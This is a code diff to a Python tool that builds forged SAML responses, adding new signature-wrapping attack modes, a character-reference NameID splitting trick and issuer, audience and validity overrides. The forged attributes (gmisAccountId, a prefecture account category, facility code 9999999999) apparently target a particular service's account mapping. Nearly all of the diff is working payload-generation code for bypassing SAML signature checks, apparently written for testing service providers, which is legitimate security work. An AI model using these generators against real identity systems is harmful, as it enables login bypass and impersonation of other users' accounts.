@@ -84,6 +84,10 @@ ATTACKS = {
     "xsw-wrap-in-extensions": "response",
     "xsw-assertion-in-object": "assertion",
     "xsw-evil-in-subject": "assertion",
+    "xsw-evil-in-extensions": "assertion",
+    "evil-foreign-ns": "assertion",
+    "evil-nameid-in-extensions": "assertion",
+    "evil-attrs-after-assertion": "assertion",
     "two-signed-assertions": "assertion",
     "two-assertions": "assertion",
     "extra-encrypted-assertion": "both",
@@ -95,7 +99,8 @@ ATTACKS = {
 }
 # attacks whose signing mode is part of their definition (--sign is refused)
 FIXED_SIGN = {"xsw-evil-first", "xsw-evil-after", "xsw-wrap-in-extensions",
-              "xsw-assertion-in-object", "xsw-evil-in-subject"}
+              "xsw-assertion-in-object", "xsw-evil-in-subject", "xsw-evil-in-extensions",
+              "evil-foreign-ns", "evil-nameid-in-extensions", "evil-attrs-after-assertion"}
 
 
 def q(ns, tag):
@@ -276,7 +281,7 @@ class Builder:
         A.set("ID", aid)
         A.set("Version", "2.0")
         A.set("IssueInstant", ts(self.issue_instant))
-        etree.SubElement(A, q(NS_SAML, "Issuer")).text = a.issuer
+        etree.SubElement(A, q(NS_SAML, "Issuer")).text = a.assertion_issuer or a.issuer
         if signed:
             etree.SubElement(A, q(NS_DS, "Signature"), nsmap={"ds": NS_DS}).set("Id", "placeholder")
         not_before = self.now
@@ -292,7 +297,8 @@ class Builder:
             sc = etree.SubElement(subj, q(NS_SAML, "SubjectConfirmation"))
             sc.set("Method", CM_HOK if a.no_bearer else CM_BEARER)
             scd = etree.SubElement(sc, q(NS_SAML, "SubjectConfirmationData"))
-            scd.set("NotOnOrAfter", ts(not_after))
+            scd_after = not_after if a.scd_validity is None else self.now + dt.timedelta(seconds=a.scd_validity)
+            scd.set("NotOnOrAfter", ts(scd_after))
             if a.recipient != "none":
                 scd.set("Recipient", a.recipient or a.acs)
             if a.in_response_to:
@@ -304,6 +310,9 @@ class Builder:
         if not a.no_audience:
             ar = etree.SubElement(cond, q(NS_SAML, "AudienceRestriction"))
             etree.SubElement(ar, q(NS_SAML, "Audience")).text = a.audience or a.sp_entity
+        for extra in a.extra_audience_restriction or []:
+            ar = etree.SubElement(cond, q(NS_SAML, "AudienceRestriction"))
+            etree.SubElement(ar, q(NS_SAML, "Audience")).text = extra
 
         authn = etree.SubElement(A, q(NS_SAML, "AuthnStatement"))
         authn.set("AuthnInstant", ts(self.now))
@@ -425,6 +434,17 @@ def make_evil(a, assertion, keep_sig=False):
     return evil
 
 
+def evil_attribute_statement(a):
+    st = etree.Element(q(NS_SAML, "AttributeStatement"))
+    for name, v in (("gmisAccountId", a.evil_nameid), ("accountCategory", "都道府県"),
+                    ("facilityCode", "9999999999")):
+        at = etree.SubElement(st, q(NS_SAML, "Attribute"))
+        at.set("Name", name)
+        at.set("NameFormat", ATTRNAME_BASIC)
+        etree.SubElement(at, q(NS_SAML, "AttributeValue")).text = v
+    return st
+
+
 def doc_bytes(R):
     return etree.tostring(R, xml_declaration=True, encoding="UTF-8")
 
@@ -509,6 +529,51 @@ def build(a):
         obj.append(strip_sig(copy.deepcopy(A)))
         return doc_bytes(b.response([evil], signed=False))
 
+    if att == "xsw-evil-in-extensions":
+        # XSW7-like: the signed Assertion stays where it belongs, an unsigned evil one sits in
+        # samlp:Extensions before it (first in document order)
+        A = b.assertion(nameid, signed=True)
+        evil = make_evil(a, A)
+        R = b.response([A], signed=False)
+        ext = etree.Element(q(NS_SAMLP, "Extensions"))
+        ext.append(evil)
+        R.find(q(NS_SAML, "Issuer")).addnext(ext)
+        return doc_bytes(R)
+
+    if att == "evil-foreign-ns":
+        # an unsigned look-alike of the Assertion in another namespace (same local names,
+        # same prefix "saml") before the signed one: not a SAML Assertion at all, but a reader
+        # that matches local names only would take its NameID/attributes
+        A = b.assertion(nameid, signed=True)
+        evil = make_evil(a, A)
+        for el in evil.iter():
+            if isinstance(el.tag, str) and el.tag.startswith("{%s}" % NS_SAML):
+                el.tag = "{urn:example:evil:assertion}" + etree.QName(el).localname
+        raw = etree.tostring(evil)
+        assert b"ns0:" in raw
+        raw = raw.replace(b' xmlns:saml="%s"' % NS_SAML.encode(), b"")
+        evil = etree.fromstring(raw.replace(b"xmlns:ns0=", b"xmlns:saml=").replace(b"ns0:", b"saml:"))
+        return doc_bytes(b.response([evil, A], signed=False))
+
+    if att == "evil-nameid-in-extensions":
+        # a bare NameID and AttributeStatement (no Assertion) in the unsigned samlp:Extensions
+        A = b.assertion(nameid, signed=True)
+        R = b.response([A], signed=False)
+        ext = etree.Element(q(NS_SAMLP, "Extensions"))
+        nid = etree.SubElement(ext, q(NS_SAML, "NameID"))
+        nid.set("Format", NAMEID_PERSISTENT)
+        nid.text = a.evil_nameid
+        ext.append(evil_attribute_statement(a))
+        R.find(q(NS_SAML, "Issuer")).addnext(ext)
+        return doc_bytes(R)
+
+    if att == "evil-attrs-after-assertion":
+        # an unsigned AttributeStatement as a sibling after the signed Assertion
+        A = b.assertion(nameid, signed=True)
+        R = b.response([A], signed=False)
+        R.append(evil_attribute_statement(a))
+        return doc_bytes(R)
+
     if att == "xsw-evil-in-subject":
         A = b.assertion(nameid, signed=True)
         evil = make_evil(a, A)
@@ -536,6 +601,17 @@ def build(a):
         return doc_bytes(b.response([A, ea], signed=s_resp))
 
     die("unknown attack %r" % att)
+
+
+def apply_charref(a, xml):
+    """HEAD.TAIL -> HEAD&#46;TAIL (first character of TAIL as a numeric character reference);
+    the same signed string for C14N."""
+    head, tail = split_point(a.nameid)
+    old = (">" + a.nameid + "<").encode()
+    new = (">" + head + "&#%d;" % ord(tail[0]) + tail[1:] + "<").encode()
+    if xml.count(old) == 0:
+        die("--charref-in-nameid: value not found in document")
+    return xml.replace(old, new)
 
 
 def apply_cdata(a, xml):
@@ -587,13 +663,15 @@ def self_check(xml, cert_path):
 def cmd_response(a):
     if a.attack == "key-substitution" and a.signer == "xmlsec1":
         die("key-substitution uses signxml")
-    if a.comment_in_nameid and a.cdata_in_nameid:
-        die("--comment-in-nameid and --cdata-in-nameid are exclusive")
+    if a.comment_in_nameid + a.cdata_in_nameid + a.charref_in_nameid > 1:
+        die("--comment-in-nameid, --cdata-in-nameid and --charref-in-nameid are exclusive")
     if a.digest_alg is None:
         a.digest_alg = "sha1" if a.sig_alg == "rsa-sha1" else "sha256"
     xml = build(a)
     if a.cdata_in_nameid:
         xml = apply_cdata(a, xml)
+    if a.charref_in_nameid:
+        xml = apply_charref(a, xml)
     if a.self_check:
         self_check(xml, a.cert)
     if a.xml:
@@ -621,6 +699,7 @@ def main():
     r.add_argument("--sp-entity", required=True, help="SP entityID (Audience, SPNameQualifier)")
     r.add_argument("--acs", required=True, help="ACS URL (Destination, Recipient)")
     r.add_argument("--issuer", default=DEFAULT_IDP)
+    r.add_argument("--assertion-issuer", default=None, help="Assertion's Issuer (default: --issuer)")
     r.add_argument("--key", required=True)
     r.add_argument("--cert", required=True)
     r.add_argument("--sign", choices=["response", "assertion", "both", "none"], default=None,
@@ -639,6 +718,10 @@ def main():
     r.add_argument("--issue-instant-offset", type=int, default=0,
                    help="shift only the IssueInstants (Response, Assertion) by S seconds more")
     r.add_argument("--audience", default=None)
+    r.add_argument("--extra-audience-restriction", action="append", metavar="AUDIENCE",
+                   help="add another AudienceRestriction with this single Audience")
+    r.add_argument("--scd-validity", type=int, default=None,
+                   help="SubjectConfirmationData NotOnOrAfter = now + S (default: --validity)")
     r.add_argument("--no-audience", action="store_true", help="omit AudienceRestriction")
     r.add_argument("--recipient", default=None, help="SubjectConfirmationData Recipient (none: omit)")
     r.add_argument("--destination", default=None, help="Response Destination (none: omit)")
@@ -651,6 +734,8 @@ def main():
                    help="sign a NameID/gmisAccountId of the form HEAD<!---->TAIL (signed string HEADTAIL)")
     r.add_argument("--cdata-in-nameid", action="store_true",
                    help="same with HEAD<![CDATA[TAIL]]>")
+    r.add_argument("--charref-in-nameid", action="store_true",
+                   help="same with the first character of TAIL as &#N;")
     r.add_argument("--attack", choices=sorted(ATTACKS), default=None)
     r.add_argument("--relay-state", default=None, help="ignored (not part of the XML)")
     r.add_argument("--xml", action="store_true", help="print the XML instead of base64")
